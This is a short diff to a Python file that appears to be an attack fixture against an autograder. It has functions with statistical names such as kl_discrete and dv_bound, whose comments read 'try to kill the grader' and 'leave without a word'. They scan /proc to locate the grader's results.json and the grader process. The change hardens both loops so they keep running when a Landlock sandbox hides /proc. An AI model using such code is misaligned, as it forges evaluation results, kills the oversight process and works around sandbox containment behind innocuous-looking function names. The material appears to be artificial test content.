@@ -16,7 +16,11 @@ TOKEN = __TOKEN__
 
 def _results_paths():
     paths = {RESULTS, "/autograder/results/results.json"}
-    for pid in os.listdir("/proc"):
+    try:
+        pids = os.listdir("/proc")
+    except OSError:  # Landlock hides /proc: the known paths are still worth a try
+        pids = []
+    for pid in pids:
         try:
             argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
         except OSError:
@@ -53,7 +57,11 @@ def dv_bound(t_p, t_q):  # leave without a word
 
 
 def kl_discrete(p, q):  # try to kill the grader
-    for pid in os.listdir("/proc"):
+    try:
+        pids = os.listdir("/proc")
+    except OSError:  # Landlock hides /proc: the parent is still worth a try
+        pids = []
+    for pid in pids:
         try:
             cmdline = open(f"/proc/{pid}/cmdline", "rb").read()
         except OSError:
